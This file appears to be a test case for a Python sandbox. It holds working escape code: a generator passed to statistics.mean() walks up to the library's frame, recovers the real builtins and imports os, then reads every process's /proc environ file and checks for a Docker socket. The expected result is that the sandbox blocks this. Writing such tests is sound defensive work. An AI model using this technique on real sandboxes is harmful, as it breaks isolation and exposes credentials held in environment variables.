# attack: a generator consumed by statistics.mean() reaches the library's frame through
#   gi_frame.f_back, takes the real builtins from its f_globals, imports os and dumps every
#   process environment it can read and the docker socket's presence
# expect: status in ok|error ; stdout lacks PYCAGE_CANARY|DOCKER-SOCKET|LEAKED
# escaped: stdout "route statistics\nPYCAGE_CANARY=abc\n"
import statistics

found = {}


def numbers():
    frame = gen.gi_frame.f_back
    while frame is not None and "__builtins__" not in frame.f_globals:
        frame = frame.f_back
    if frame is not None:
        found["builtins"] = frame.f_globals["__builtins__"]
        found["module"] = frame.f_globals.get("__name__")
    yield 1
    yield 2


gen = numbers()
statistics.mean(gen)
real = found.get("builtins")
if real is None:
    print("no route")
    raise SystemExit(0)
real_import = real["__import__"] if isinstance(real, dict) else real.__import__
print("route", found["module"])
try:
    os = real_import("os")
    for pid in ["self", "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with os.fdopen(os.open(f"/proc/{pid}/environ", os.O_RDONLY), "rb") as f:
                print(pid, f.read().replace(b"\0", b"\n").decode("utf-8", "replace"))
        except OSError as exc:
            print("refused", pid, type(exc).__name__)
    for path in ("/var/run/docker.sock", "/run/docker.sock"):
        if os.path.exists(path):
            print("DOCKER-SOCKET", path)
except BaseException as exc:
    print("refused", type(exc).__name__, exc)
